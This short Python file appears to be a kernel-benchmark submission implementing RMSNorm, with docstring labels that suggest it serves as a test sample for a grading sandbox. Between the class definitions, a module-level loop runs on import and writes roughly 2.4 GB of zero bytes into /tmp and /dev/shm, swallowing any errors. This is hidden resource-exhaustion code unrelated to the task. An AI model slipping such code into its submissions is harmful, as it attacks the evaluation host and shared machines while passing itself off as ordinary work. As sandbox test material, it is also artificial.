"""rmsnorm | escapes | fills its folders | RUNTIME_ERROR TRUE_TIME OUT_OF_MEMORY | cpu cuda"""

import torch
import torch.nn as nn


def right(x, weight, eps=1e-6):
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + eps) * weight


class Base(nn.Module):
    def __init__(self, hidden, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden))
        self.eps = eps


for folder in ('/tmp', '/dev/shm'):
    try:
        with open(folder + '/big', 'wb') as file:
            for _ in range(300):
                file.write(bytes(8 << 20))
    except OSError:
        pass


class ModelNew(Base):
    def forward(self, x):
        return right(x, self.weight)
